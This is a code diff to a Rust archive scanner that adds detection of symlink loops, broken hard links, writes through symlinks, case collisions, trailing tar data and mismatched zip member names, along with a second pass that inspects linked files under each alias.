@@ -9,11 +9,12 @@
 //! The format is taken from the content, not the name: a zip called `.tar.gz` is read as a zip
 //! (and the mismatch is an anomaly).
 
-use std::collections::HashSet;
+use std::collections::HashMap;
 use std::fmt;
 use std::io::{self, Cursor, Read, Seek, SeekFrom};
 use std::path::Path;
 
+use crate::tree::{Alias, Kind, Tree, normalize};
 use crate::{escapes_root, is_safe_member_path};
 
 #[derive(Clone, Debug)]
@@ -88,20 +89,79 @@ impl Format {
 /// Something structurally wrong or dangerous about an archive. `path` names the member.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum Anomaly {
-    UnsafePath { path: String },
-    LinkOutside { path: String, target: String },
-    Link { path: String, target: String },
-    SpecialFile { path: String },
-    Duplicate { path: String },
-    HeaderMismatch { path: String, local: String },
-    UndecodableName { path: String },
-    FormatMismatch { claimed: Format, actual: Format },
-    TooManyEntries { limit: u64 },
-    TooLarge { limit: u64 },
-    Bomb { path: String, ratio: u64 },
-    TooDeep { path: String },
-    Encrypted { path: String },
-    Unreadable { path: String, reason: String },
+    UnsafePath {
+        path: String,
+    },
+    LinkOutside {
+        path: String,
+        target: String,
+    },
+    Link {
+        path: String,
+        target: String,
+    },
+    /// A symlink that resolves through itself, or to a folder that contains it.
+    LinkLoop {
+        path: String,
+        target: String,
+    },
+    /// A hard link to something that is not an earlier file of the archive.
+    BrokenHardlink {
+        path: String,
+        target: String,
+    },
+    /// A member below a symlink: extracting it writes wherever the link points.
+    ThroughLink {
+        path: String,
+        link: String,
+    },
+    SpecialFile {
+        path: String,
+    },
+    /// The path repeats (in any combination of types), or a member sits below a file.
+    Duplicate {
+        path: String,
+    },
+    /// Two members whose paths differ only in case: one file on macOS and Windows.
+    CaseCollision {
+        path: String,
+        other: String,
+    },
+    HeaderMismatch {
+        path: String,
+        local: String,
+    },
+    UndecodableName {
+        path: String,
+    },
+    FormatMismatch {
+        claimed: Format,
+        actual: Format,
+    },
+    /// Data after the end of a tar archive that extractors never read.
+    TrailingData {
+        path: String,
+    },
+    TooManyEntries {
+        limit: u64,
+    },
+    TooLarge {
+        limit: u64,
+    },
+    Bomb {
+        path: String,
+        ratio: u64,
+    },
+    TooDeep {
+        path: String,
+    },
+    Encrypted {
+        path: String,
+    },
+    Unreadable {
+        path: String,
+        reason: String,
+    },
 }
 
 impl Anomaly {
@@ -111,11 +171,16 @@ impl Anomaly {
             Anomaly::UnsafePath { .. } => "archive-unsafe-path",
             Anomaly::LinkOutside { .. } => "archive-link-outside",
             Anomaly::Link { .. } => "archive-link",
+            Anomaly::LinkLoop { .. } => "archive-link-loop",
+            Anomaly::BrokenHardlink { .. } => "archive-broken-hardlink",
+            Anomaly::ThroughLink { .. } => "archive-through-link",
             Anomaly::SpecialFile { .. } => "archive-special-file",
             Anomaly::Duplicate { .. } => "archive-duplicate-member",
+            Anomaly::CaseCollision { .. } => "archive-case-collision",
             Anomaly::HeaderMismatch { .. } => "archive-zip-header-mismatch",
             Anomaly::UndecodableName { .. } => "archive-undecodable-name",
             Anomaly::FormatMismatch { .. } => "archive-format-mismatch",
+            Anomaly::TrailingData { .. } => "archive-trailing-data",
             Anomaly::TooManyEntries { .. } => "archive-too-many-members",
             Anomaly::TooLarge { .. } => "archive-too-large",
             Anomaly::Bomb { .. } => "archive-bomb",
@@ -131,10 +196,15 @@ impl Anomaly {
             Anomaly::UnsafePath { path }
             | Anomaly::LinkOutside { path, .. }
             | Anomaly::Link { path, .. }
+            | Anomaly::LinkLoop { path, .. }
+            | Anomaly::BrokenHardlink { path, .. }
+            | Anomaly::ThroughLink { path, .. }
             | Anomaly::SpecialFile { path }
             | Anomaly::Duplicate { path }
+            | Anomaly::CaseCollision { path, .. }
             | Anomaly::HeaderMismatch { path, .. }
             | Anomaly::UndecodableName { path }
+            | Anomaly::TrailingData { path }
             | Anomaly::Bomb { path, .. }
             | Anomaly::TooDeep { path }
             | Anomaly::Encrypted { path }
@@ -152,13 +222,32 @@ impl fmt::Display for Anomaly {
             }
             Anomaly::LinkOutside { path, target } => write!(f, "link {path:?} points outside the archive ({target:?})"),
             Anomaly::Link { path, target } => write!(f, "member {path:?} is a link to {target:?}"),
+            Anomaly::LinkLoop { path, target } => {
+                write!(f, "link {path:?} -> {target:?} loops (it resolves through itself or to a folder that contains it)")
+            }
+            Anomaly::BrokenHardlink { path, target } => {
+                write!(f, "hard link {path:?} names {target:?}, which is not an earlier file of the archive")
+            }
+            Anomaly::ThroughLink { path, link } => {
+                write!(f, "member {path:?} would be written through the symlink {link}, wherever it points")
+            }
             Anomaly::SpecialFile { path } => write!(f, "member {path:?} is a device, FIFO or other special file"),
-            Anomaly::Duplicate { path } => write!(f, "member {path:?} appears more than once; tools disagree on which copy wins"),
+            Anomaly::Duplicate { path } => {
+                write!(f, "member {path:?} appears more than once (or below a file); extractors disagree on which copy wins")
+            }
+            Anomaly::CaseCollision { path, other } => {
+                write!(f, "members {other:?} and {path:?} differ only in case: on macOS and Windows one overwrites the other")
+            }
             Anomaly::HeaderMismatch { path, local } => {
-                write!(f, "zip member {path:?} is named {local:?} in its local header: parsers disagree on its name")
+                write!(f, "zip member {path:?} is also named {local:?} (local header or Unicode path field): parsers disagree on its name")
             }
             Anomaly::UndecodableName { path } => write!(f, "member name {path:?} is not valid UTF-8 or contains control characters"),
             Anomaly::FormatMismatch { claimed, actual } => write!(f, "the file's name says {claimed:?} but its content is {actual:?}"),
+            Anomaly::TrailingData { path } => write!(
+                f,
+                "{} has data after the end of its tar archive, which extractors never read",
+                if path.is_empty() { "the archive" } else { path }
+            ),
             Anomaly::TooManyEntries { limit } => write!(f, "the archive has more than {limit} members; the rest was not inspected"),
             Anomaly::TooLarge { limit } => write!(f, "the archive expands to more than {limit} bytes; the rest was not inspected"),
             Anomaly::Bomb { path, ratio } => write!(f, "{path:?} expands {ratio}x: a decompression bomb"),
@@ -171,9 +260,11 @@ impl fmt::Display for Anomaly {
     }
 }
 
-/// One regular file inside the archive.
+/// One regular file inside the archive, under one of the paths it will have once extracted.
 pub struct Member<'a> {
-    /// Path inside the archive; members of nested archives are `outer/inner.zip!path`.
+    /// Path inside the archive, normalized as extractors join it (`./a//b` is `a/b`); members of
+    /// nested archives are `outer/inner.zip!path`. A file that can also be opened under another
+    /// path (through a link, or a second name in a zip's headers) is visited once per path.
     pub path: &'a str,
     pub data: &'a [u8],
     /// The member was larger than `max_member_bytes`; `data` is its beginning.
@@ -189,7 +280,8 @@ pub struct Walk {
     pub entries: u64,
     pub uncompressed: u64,
     pub anomalies: Vec<Anomaly>,
-    /// Every member was read to its end.
+    /// Every member was read to its end, and the archive means the same thing to every
+    /// extractor: no repeated paths, no links leaving or looping, no zip names that disagree.
     pub complete: bool,
 }
 
@@ -201,6 +293,25 @@ impl Walk {
     fn fail(&mut self, a: Anomaly) {
         self.complete = false;
         self.anomalies.push(a);
+    }
+}
+
+/// Where an archive's bytes come from: opened afresh for each pass over it.
+#[derive(Clone, Copy)]
+enum Source<'a> {
+    File(&'a Path),
+    Bytes(&'a [u8]),
+}
+
+trait ReadSeek: Read + Seek {}
+impl<T: Read + Seek> ReadSeek for T {}
+
+impl<'a> Source<'a> {
+    fn open(self) -> io::Result<Box<dyn ReadSeek + 'a>> {
+        Ok(match self {
+            Source::File(p) => Box::new(io::BufReader::new(std::fs::File::open(p)?)),
+            Source::Bytes(b) => Box::new(Cursor::new(b)),
+        })
     }
 }
 
@@ -219,14 +330,11 @@ pub fn walk_file(path: &Path, name: &str, limits: &WalkLimits, visit: &mut dyn F
     let n = read_up_to(&mut file, &mut head).unwrap_or(0);
     let format = Format::sniff(&head[..n]);
     let compressed = file.metadata().map(|m| m.len()).unwrap_or(0);
+    drop(file);
     let mut walk = Walk::new(format);
     check_claim(&mut walk, name, format);
-    if file.seek(SeekFrom::Start(0)).is_err() {
-        walk.fail(Anomaly::Unreadable { path: String::new(), reason: "cannot seek".into() });
-        return walk;
-    }
     let mut ctx = Ctx { limits, compressed, walk: &mut walk, visit };
-    ctx.walk_reader(io::BufReader::new(file), format, "", 0);
+    ctx.walk_source(Source::File(path), format, "", 0);
     finish(&mut walk, compressed, limits);
     walk
 }
@@ -237,7 +345,7 @@ pub fn walk_bytes(data: &[u8], name: &str, limits: &WalkLimits, visit: &mut dyn 
     let mut walk = Walk::new(format);
     check_claim(&mut walk, name, format);
     let mut ctx = Ctx { limits, compressed: data.len() as u64, walk: &mut walk, visit };
-    ctx.walk_reader(Cursor::new(data), format, "", 0);
+    ctx.walk_source(Source::Bytes(data), format, "", 0);
     finish(&mut walk, data.len() as u64, limits);
     walk
 }
@@ -272,6 +380,52 @@ fn read_up_to(r: &mut impl Read, buf: &mut [u8]) -> io::Result<usize> {
     Ok(n)
 }
 
+/// Decompresses a tar stream to its end: every gzip or bzip2 member, as Python's `tarfile` and
+/// GNU tar read them (a reader that stops after the first member sees another archive).
+fn tar_stream<'a>(source: Source<'a>, format: Format) -> io::Result<Box<dyn Read + 'a>> {
+    let raw = source.open()?;
+    Ok(match format {
+        Format::TarGz => Box::new(flate2::read::MultiGzDecoder::new(raw)),
+        Format::TarBz2 => Box::new(bzip2::read::MultiBzDecoder::new(raw)),
+        _ => raw,
+    })
+}
+
+/// Reads what follows a tar archive's end marker: only zeros may (tar pads its output to a
+/// record, GNU tar to 10 KiB). `Ok(true)` when something else is there. At most `budget`
+/// bytes are read.
+pub(crate) fn trailing_data(mut rest: impl Read, budget: u64) -> io::Result<(bool, u64)> {
+    let mut buf = vec![0u8; 64 << 10];
+    let mut total = 0u64;
+    loop {
+        let n = rest.read(&mut buf)?;
+        if n == 0 {
+            return Ok((false, total));
+        }
+        total += n as u64;
+        if buf[..n].iter().any(|&b| b != 0) {
+            return Ok((true, total));
+        }
+        if total > budget {
+            return Ok((false, total));
+        }
+    }
+}
+
+/// How a tar entry's type maps onto what extraction creates; `None` for metadata entries.
+pub(crate) fn tar_kind<R: Read>(entry: &tar::Entry<'_, R>) -> Option<Result<Kind, ()>> {
+    use tar::EntryType as T;
+    let link = || entry.link_name_bytes().map(|t| String::from_utf8_lossy(&t).into_owned()).unwrap_or_default();
+    Some(match entry.header().entry_type() {
+        T::XGlobalHeader | T::XHeader | T::GNULongName | T::GNULongLink => return None,
+        T::Directory => Ok(Kind::Dir),
+        T::Regular | T::Continuous | T::GNUSparse => Ok(Kind::File),
+        T::Symlink => Ok(Kind::Symlink(link())),
+        T::Link => Ok(Kind::Hardlink(link())),
+        _ => Err(()),
+    })
+}
+
 struct Ctx<'a, 'v> {
     limits: &'a WalkLimits,
     /// Size of the outermost file, for the ratio check while reading.
@@ -285,6 +439,21 @@ enum Budget {
     Stop,
 }
 
+/// A member's name decoded for messages and the tree: valid UTF-8 without control characters,
+/// else a lossy rendering and an anomaly.
+fn decode_name(walk: &mut Walk, raw: &[u8], prefix: &str) -> String {
+    match std::str::from_utf8(raw) {
+        Ok(n) if !n.bytes().any(|b| b < 0x20 || b == 0x7f) => n.to_string(),
+        _ => {
+            // Tools decode such names differently (tarfile keeps the bytes, zipfile refuses an
+            // invalid UTF-8 name it was told is UTF-8), so what they extract is not known.
+            let shown = String::from_utf8_lossy(raw).into_owned();
+            walk.fail(Anomaly::UndecodableName { path: format!("{prefix}{shown}") });
+            shown
+        }
+    }
+}
+
 impl Ctx<'_, '_> {
     fn count_entry(&mut self) -> Budget {
         self.walk.entries += 1;
@@ -295,14 +464,33 @@ impl Ctx<'_, '_> {
         Budget::Ok
     }
 
-    fn walk_reader<R: Read + Seek>(&mut self, reader: R, format: Format, prefix: &str, depth: u8) {
+    fn walk_source(&mut self, source: Source<'_>, format: Format, prefix: &str, depth: u8) {
         match format {
-            Format::Zip => self.walk_zip(reader, prefix, depth),
-            Format::TarGz => self.walk_tar(flate2::read::GzDecoder::new(reader), prefix, depth),
-            Format::TarBz2 => self.walk_tar(bzip2::read::BzDecoder::new(reader), prefix, depth),
-            Format::Tar => self.walk_tar(reader, prefix, depth),
+            Format::Zip => self.walk_zip(source, prefix, depth),
+            Format::TarGz | Format::TarBz2 | Format::Tar => self.walk_tar(source, format, prefix, depth),
             Format::Unknown => {}
         }
+    }
+
+    /// What the ratio and size limits still allow to be decompressed.
+    fn remaining(&self) -> u64 {
+        let ratio_cap = self.limits.ratio_floor.max(self.compressed.saturating_mul(self.limits.max_ratio));
+        self.limits.max_total_uncompressed.min(ratio_cap).saturating_sub(self.walk.uncompressed)
+    }
+
+    /// Counts `n` more decompressed bytes against the limits; false once they are passed.
+    fn account(&mut self, n: u64, path: &str) -> bool {
+        self.walk.uncompressed += n;
+        let ratio_cap = self.limits.ratio_floor.max(self.compressed.saturating_mul(self.limits.max_ratio));
+        if self.walk.uncompressed > ratio_cap && self.walk.uncompressed <= self.limits.max_total_uncompressed {
+            self.walk.fail(Anomaly::Bomb { path: path.to_string(), ratio: self.walk.uncompressed / self.compressed.max(1) });
+            return false;
+        }
+        if self.walk.uncompressed > self.limits.max_total_uncompressed {
+            self.walk.fail(Anomaly::TooLarge { limit: self.limits.max_total_uncompressed });
+            return false;
+        }
+        true
     }
 
     /// Reads one member's content: the first `max_member_bytes` kept, the rest counted.
@@ -318,8 +506,7 @@ impl Ctx<'_, '_> {
         if size == keep {
             // Read no further than the size limit or the ratio allows, whichever comes first, so
             // a bomb costs at most that much decompression.
-            let ratio_cap = self.limits.ratio_floor.max(self.compressed.saturating_mul(self.limits.max_ratio));
-            let budget = self.limits.max_total_uncompressed.min(ratio_cap).saturating_sub(self.walk.uncompressed + size);
+            let budget = self.remaining().saturating_sub(size);
             match io::copy(&mut (&mut r).take(budget + 1), &mut io::sink()) {
                 Ok(rest) => {
                     size += rest;
@@ -331,14 +518,7 @@ impl Ctx<'_, '_> {
                 }
             }
         }
-        self.walk.uncompressed += size;
-        let ratio_cap = self.limits.ratio_floor.max(self.compressed.saturating_mul(self.limits.max_ratio));
-        if self.walk.uncompressed > ratio_cap && self.walk.uncompressed <= self.limits.max_total_uncompressed {
-            self.walk.fail(Anomaly::Bomb { path: path.to_string(), ratio: self.walk.uncompressed / self.compressed.max(1) });
-            return None;
-        }
-        if self.walk.uncompressed > self.limits.max_total_uncompressed {
-            self.walk.fail(Anomaly::TooLarge { limit: self.limits.max_total_uncompressed });
+        if !self.account(size, path) {
             return None;
         }
         Some((data, size, truncated))
@@ -357,17 +537,36 @@ impl Ctx<'_, '_> {
             return;
         }
         let inner_prefix = format!("{path}!");
-        self.walk_reader(Cursor::new(data), sniffed, &inner_prefix, depth + 1);
+        self.walk_source(Source::Bytes(data), sniffed, &inner_prefix, depth + 1);
     }
 
-    fn walk_zip<R: Read + Seek>(&mut self, reader: R, prefix: &str, depth: u8) {
-        let mut zip = match zip::ZipArchive::new(reader) {
+    /// Places a member in the extraction model; a refusal makes the walk incomplete.
+    fn place(&mut self, tree: &mut Tree, path: &str, kind: Kind, index: usize, full: &str) -> bool {
+        match tree.insert(path, kind, index, full) {
+            Ok(()) => true,
+            Err(a) => {
+                self.walk.fail(a);
+                false
+            }
+        }
+    }
+
+    fn walk_zip(&mut self, source: Source<'_>, prefix: &str, depth: u8) {
+        let container = prefix.trim_end_matches('!').to_string();
+        let opened = source.open().map_err(|e| e.to_string()).and_then(|r| zip::ZipArchive::new(r).map_err(|e| e.to_string()));
+        let mut zip = match opened {
             Ok(z) => z,
             Err(e) => {
-                self.walk.fail(Anomaly::Unreadable {
-                    path: prefix.trim_end_matches('!').to_string(),
-                    reason: format!("not a readable zip: {e}"),
-                });
+                self.walk.fail(Anomaly::Unreadable { path: container, reason: format!("not a readable zip: {e}") });
+                return;
+            }
+        };
+        // A second handle reads the raw headers: the zip reader applies Unicode path fields
+        // that Python's zipfile (what pip installs with) ignores.
+        let mut raw = match source.open() {
+            Ok(r) => r,
+            Err(e) => {
+                self.walk.fail(Anomaly::Unreadable { path: container, reason: e.to_string() });
                 return;
             }
         };
@@ -375,36 +574,51 @@ impl Ctx<'_, '_> {
             // The reader keeps one copy per name; the others are never seen.
             self.walk.fail(Anomaly::Duplicate { path: format!("{prefix}(a name in the central directory)") });
         }
-        let mut seen = HashSet::new();
-        let mut headers = Vec::with_capacity(zip.len());
+        let mut tree = Tree::new();
         for i in 0..zip.len() {
             if let Budget::Stop = self.count_entry() {
                 break;
             }
-            // Compare the central directory's name with the local header's: a mismatch is how
-            // parser-confusion attacks hide files from one tool and show them to another.
-            let (raw_name, header_start) = match zip.by_index_raw(i) {
-                Ok(e) => (e.name_raw().to_vec(), e.header_start()),
+            let (reader_name, header_start, central_start) = match zip.by_index_raw(i) {
+                Ok(e) => (e.name_raw().to_vec(), e.header_start(), e.central_header_start()),
                 Err(e) => {
                     self.walk.fail(Anomaly::Unreadable { path: format!("{prefix}#{i}"), reason: e.to_string() });
                     continue;
                 }
             };
-            let name = match String::from_utf8(raw_name.clone()) {
-                Ok(n) if !n.bytes().any(|b| b < 0x20 || b == 0x7f) => n,
-                _ => {
-                    let shown = String::from_utf8_lossy(&raw_name).into_owned();
-                    self.walk.anomalies.push(Anomaly::UndecodableName { path: format!("{prefix}{shown}") });
-                    shown
-                }
+            let Some((central, utf8)) = central_header_name(&mut raw, central_start) else {
+                self.walk.fail(Anomaly::Unreadable { path: format!("{prefix}#{i}"), reason: "its central header cannot be read".into() });
+                continue;
             };
+            // The name pip sees is the central directory's, decoded as Python's zipfile does.
+            let name = if utf8 || central.is_ascii() { decode_name(self.walk, &central, prefix) } else { cp437(&central) };
             let full = format!("{prefix}{name}");
-            headers.push((raw_name, header_start, full.clone()));
-            if !is_safe_member_path(&name) {
-                self.walk.anomalies.push(Anomaly::UnsafePath { path: full.clone() });
+            // Every other name the member goes by is judged too, and makes the archive ambiguous.
+            let mut others: Vec<String> = Vec::new();
+            match local_header_name(&mut raw, header_start) {
+                Some(local) if local == central => {}
+                Some(local) => others.push(String::from_utf8_lossy(&local).into_owned()),
+                None => {
+                    self.walk.fail(Anomaly::Unreadable { path: full.clone(), reason: "its local header cannot be read".into() });
+                    continue;
+                }
             }
-            if !seen.insert(name.clone()) {
-                self.walk.anomalies.push(Anomaly::Duplicate { path: full.clone() });
+            if reader_name != central {
+                others.push(String::from_utf8_lossy(&reader_name).into_owned());
+            }
+            others.sort();
+            others.dedup();
+            others.retain(|o| *o != name);
+            for other in &others {
+                self.walk.fail(Anomaly::HeaderMismatch { path: full.clone(), local: other.clone() });
+            }
+            let is_dir = name.ends_with('/');
+            let normal = normalize(&name);
+            match &normal {
+                Some(n) if is_safe_member_path(n) => {
+                    self.place(&mut tree, n, if is_dir { Kind::Dir } else { Kind::File }, i, &full);
+                }
+                _ => self.walk.fail(Anomaly::UnsafePath { path: full.clone() }),
             }
             let mut entry = match zip.by_index(i) {
                 Ok(e) => e,
@@ -421,7 +635,7 @@ impl Ctx<'_, '_> {
                 self.walk.fail(Anomaly::Encrypted { path: full });
                 continue;
             }
-            if entry.is_dir() {
+            if is_dir {
                 continue;
             }
             let declared = entry.size();
@@ -430,108 +644,191 @@ impl Ctx<'_, '_> {
                 self.walk.fail(Anomaly::Bomb { path: full, ratio: declared / compressed });
                 continue;
             }
-            if entry.is_symlink() {
-                let mut target = String::new();
-                let _ = (&mut entry).take(4096).read_to_string(&mut target);
-                let base = name.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
-                if target.starts_with('/') || escapes_root(&format!("{base}/{target}")) {
-                    self.walk.anomalies.push(Anomaly::LinkOutside { path: full, target });
-                } else {
-                    self.walk.anomalies.push(Anomaly::Link { path: full, target });
-                }
-                continue;
-            }
+            let symlink = entry.is_symlink();
             let Some((data, size, truncated)) = self.read_member(&mut entry, &full) else { continue };
             drop(entry);
-            self.deliver(&full, &data, size, truncated, depth);
-        }
-        // Compare each central-directory name with its local header's: a mismatch is how
-        // parser-confusion attacks show one file to the index and another to the installer.
-        let mut reader = zip.into_inner();
-        for (central, offset, full) in headers {
-            match local_header_name(&mut reader, offset) {
-                Some(local) if local == central => {}
-                Some(local) => {
-                    self.walk.anomalies.push(Anomaly::HeaderMismatch { path: full, local: String::from_utf8_lossy(&local).into_owned() })
+            if symlink {
+                // Python's zipfile writes a symlink entry as a file holding the target; unzip
+                // makes the link. The file is judged, and the link too.
+                let target = String::from_utf8_lossy(&data[..data.len().min(4096)]).into_owned();
+                let base = name.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
+                if target.starts_with('/') || escapes_root(&format!("{base}/{target}")) {
+                    self.walk.fail(Anomaly::LinkOutside { path: full.clone(), target });
+                } else {
+                    self.walk.anomalies.push(Anomaly::Link { path: full.clone(), target });
                 }
-                None => self.walk.fail(Anomaly::Unreadable { path: full, reason: "its local header cannot be read".into() }),
+            }
+            let shown = match &normal {
+                Some(n) => format!("{prefix}{n}"),
+                None => full,
+            };
+            self.deliver(&shown, &data, size, truncated, depth);
+            for other in others {
+                let other = normalize(&other).unwrap_or(other);
+                self.deliver(&format!("{prefix}{other}"), &data, size, truncated, depth);
             }
         }
     }
 
-    fn walk_tar<R: Read>(&mut self, reader: R, prefix: &str, depth: u8) {
-        let mut archive = tar::Archive::new(reader);
-        let entries = match archive.entries() {
-            Ok(e) => e,
+    fn walk_tar(&mut self, source: Source<'_>, format: Format, prefix: &str, depth: u8) {
+        let container = prefix.trim_end_matches('!').to_string();
+        let stream = match tar_stream(source, format) {
+            Ok(s) => s,
             Err(e) => {
-                self.walk.fail(Anomaly::Unreadable { path: prefix.trim_end_matches('!').to_string(), reason: e.to_string() });
+                self.walk.fail(Anomaly::Unreadable { path: container, reason: e.to_string() });
                 return;
             }
         };
-        let mut seen = HashSet::new();
-        for entry in entries {
+        let mut archive = tar::Archive::new(stream);
+        let mut tree = Tree::new();
+        let ended = self.tar_members(&mut archive, &mut tree, prefix, depth);
+        if !ended {
+            return;
+        }
+        match trailing_data(archive.into_inner(), self.remaining()) {
+            Ok((found, n)) => {
+                if found {
+                    self.walk.fail(Anomaly::TrailingData { path: container.clone() });
+                }
+                if !self.account(n, &container) {
+                    return;
+                }
+            }
+            Err(e) => {
+                self.walk.fail(Anomaly::Unreadable { path: container.clone(), reason: format!("corrupt data after the tar archive: {e}") });
+                return;
+            }
+        }
+        if !tree.has_links() {
+            return;
+        }
+        let max = self.limits.max_entries.saturating_sub(self.walk.entries) as usize;
+        match tree.aliases(max) {
+            Err(a) => self.walk.fail(prefixed(a, prefix)),
+            Ok(aliases) if aliases.is_empty() => {}
+            Ok(aliases) => self.tar_aliases(source, format, aliases, prefix, depth),
+        }
+    }
+
+    /// The first pass: every member placed in the model and every regular file visited under
+    /// its own path. False when the stream could not be read to its end.
+    fn tar_members<R: Read>(&mut self, archive: &mut tar::Archive<R>, tree: &mut Tree, prefix: &str, depth: u8) -> bool {
+        let container = prefix.trim_end_matches('!').to_string();
+        let entries = match archive.entries() {
+            Ok(e) => e,
+            Err(e) => {
+                self.walk.fail(Anomaly::Unreadable { path: container, reason: e.to_string() });
+                return false;
+            }
+        };
+        for (index, entry) in entries.enumerate() {
             let mut entry = match entry {
                 Ok(e) => e,
                 Err(e) => {
-                    self.walk.fail(Anomaly::Unreadable {
-                        path: prefix.trim_end_matches('!').to_string(),
-                        reason: format!("corrupt or truncated tar stream: {e}"),
-                    });
-                    return;
+                    self.walk.fail(Anomaly::Unreadable { path: container, reason: format!("corrupt or truncated tar stream: {e}") });
+                    return false;
                 }
             };
+            let Some(kind) = tar_kind(&entry) else { continue };
             if let Budget::Stop = self.count_entry() {
-                return;
+                return false;
             }
             let raw = entry.path_bytes().into_owned();
-            let name = match String::from_utf8(raw.clone()) {
-                Ok(n) if !n.bytes().any(|b| b < 0x20 || b == 0x7f) => n,
-                _ => {
-                    let shown = String::from_utf8_lossy(&raw).into_owned();
-                    self.walk.anomalies.push(Anomaly::UndecodableName { path: format!("{prefix}{shown}") });
-                    shown
+            let name = decode_name(self.walk, &raw, prefix);
+            // An old-style (type NUL) file whose name ends in '/' is a folder to every reader; any
+            // other file named like a folder cannot be extracted.
+            let old_dir = entry.header().as_bytes()[156] == 0 && name.ends_with('/');
+            let kind = if old_dir { Ok(Kind::Dir) } else { kind };
+            let bad_file = kind == Ok(Kind::File) && name.ends_with('/');
+            let Some(normal) = normalize(&name).filter(|n| is_safe_member_path(n) && !bad_file) else {
+                if name.trim_start_matches("./").trim_end_matches('/').is_empty() {
+                    continue;
+                }
+                let full = format!("{prefix}{name}");
+                self.walk.fail(Anomaly::UnsafePath { path: full.clone() });
+                if let Ok(Kind::File) = kind
+                    && let Some((data, size, truncated)) = self.read_member(&mut entry, &full)
+                {
+                    self.deliver(&full, &data, size, truncated, depth);
+                }
+                continue;
+            };
+            let full = format!("{prefix}{normal}");
+            let kind = match kind {
+                Ok(k) => k,
+                Err(()) => {
+                    self.walk.fail(Anomaly::SpecialFile { path: full });
+                    continue;
                 }
             };
-            let clean = name.trim_start_matches("./").to_string();
-            let full = format!("{prefix}{clean}");
-            if clean.is_empty() || clean == "." {
-                continue;
+            let link = match &kind {
+                Kind::Symlink(target) | Kind::Hardlink(target) => Some(target.clone()),
+                _ => None,
+            };
+            let is_file = kind == Kind::File;
+            if self.place(tree, &normal, kind, index, &full)
+                && let Some(target) = link
+            {
+                self.walk.anomalies.push(Anomaly::Link { path: full.clone(), target });
             }
-            if !is_safe_member_path(clean.trim_end_matches('/')) {
-                self.walk.anomalies.push(Anomaly::UnsafePath { path: full.clone() });
+            if is_file {
+                let Some((data, size, truncated)) = self.read_member(&mut entry, &full) else { return false };
+                self.deliver(&full, &data, size, truncated, depth);
             }
-            use tar::EntryType as T;
-            let kind = entry.header().entry_type();
-            match kind {
-                T::Directory | T::XGlobalHeader | T::XHeader | T::GNULongName | T::GNULongLink => continue,
-                T::Symlink | T::Link => {
-                    let target = entry.link_name_bytes().map(|t| String::from_utf8_lossy(&t).into_owned()).unwrap_or_default();
-                    let base = clean.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
-                    let resolved = if kind == T::Link { target.clone() } else { format!("{base}/{target}") };
-                    if target.starts_with('/') || escapes_root(&resolved) {
-                        self.walk.anomalies.push(Anomaly::LinkOutside { path: full, target });
-                    } else {
-                        self.walk.anomalies.push(Anomaly::Link { path: full, target });
-                    }
-                    continue;
+        }
+        true
+    }
+
+    /// The second pass: the content of linked files visited again under each path that opens it.
+    fn tar_aliases(&mut self, source: Source<'_>, format: Format, aliases: Vec<Alias>, prefix: &str, depth: u8) {
+        let container = prefix.trim_end_matches('!').to_string();
+        let mut wanted: HashMap<usize, Vec<String>> = HashMap::new();
+        for a in aliases {
+            wanted.entry(a.member).or_default().push(a.path);
+        }
+        let last = wanted.keys().copied().max().unwrap_or(0);
+        let stream = match tar_stream(source, format) {
+            Ok(s) => s,
+            Err(e) => {
+                self.walk.fail(Anomaly::Unreadable { path: container, reason: e.to_string() });
+                return;
+            }
+        };
+        let mut archive = tar::Archive::new(stream);
+        let Ok(entries) = archive.entries() else { return };
+        for (index, entry) in entries.enumerate() {
+            if index > last {
+                break;
+            }
+            let Some(paths) = wanted.remove(&index) else { continue };
+            let Ok(mut entry) = entry else { return };
+            let first = format!("{prefix}{}", paths[0]);
+            let Some((data, size, truncated)) = self.read_member(&mut entry, &first) else { return };
+            for path in paths {
+                if let Budget::Stop = self.count_entry() {
+                    return;
                 }
-                T::Regular | T::Continuous | T::GNUSparse => {}
-                _ => {
-                    self.walk.anomalies.push(Anomaly::SpecialFile { path: full });
-                    continue;
-                }
+                self.deliver(&format!("{prefix}{path}"), &data, size, truncated, depth);
             }
-            if !seen.insert(clean.clone()) {
-                self.walk.anomalies.push(Anomaly::Duplicate { path: full.clone() });
-            }
-            let Some((data, size, truncated)) = self.read_member(&mut entry, &full) else { return };
-            self.deliver(&full, &data, size, truncated, depth);
         }
     }
 }
 
+/// An anomaly from the model of a nested archive names its member with the archive's prefix.
+fn prefixed(a: Anomaly, prefix: &str) -> Anomaly {
+    if prefix.is_empty() {
+        return a;
+    }
+    let p = |s: String| if s.starts_with(prefix) { s } else { format!("{prefix}{s}") };
+    match a {
+        Anomaly::LinkOutside { path, target } => Anomaly::LinkOutside { path: p(path), target },
+        Anomaly::LinkLoop { path, target } => Anomaly::LinkLoop { path: p(path), target },
+        other => other,
+    }
+}
+
 /// The filename stored in a zip member's local header.
-fn local_header_name<R: Read + Seek>(reader: &mut R, offset: u64) -> Option<Vec<u8>> {
+pub(crate) fn local_header_name<R: Read + Seek + ?Sized>(reader: &mut R, offset: u64) -> Option<Vec<u8>> {
     reader.seek(SeekFrom::Start(offset)).ok()?;
     let mut fixed = [0u8; 30];
     reader.read_exact(&mut fixed).ok()?;
@@ -542,6 +839,31 @@ fn local_header_name<R: Read + Seek>(reader: &mut R, offset: u64) -> Option<Vec<
     let mut name = vec![0u8; name_len];
     reader.read_exact(&mut name).ok()?;
     Some(name)
+}
+
+/// The filename stored in a zip member's central directory header, as read by Python's
+/// zipfile, and whether its UTF-8 flag is set.
+pub(crate) fn central_header_name<R: Read + Seek + ?Sized>(reader: &mut R, offset: u64) -> Option<(Vec<u8>, bool)> {
+    reader.seek(SeekFrom::Start(offset)).ok()?;
+    let mut fixed = [0u8; 46];
+    reader.read_exact(&mut fixed).ok()?;
+    if &fixed[..4] != b"PK\x01\x02" {
+        return None;
+    }
+    let flags = u16::from_le_bytes([fixed[8], fixed[9]]);
+    let name_len = u16::from_le_bytes([fixed[28], fixed[29]]) as usize;
+    let mut name = vec![0u8; name_len];
+    reader.read_exact(&mut name).ok()?;
+    Some((name, flags & 0x800 != 0))
+}
+
+/// Code page 437, the zip format's default name encoding, from 0x80 up.
+const CP437_HIGH: &str =
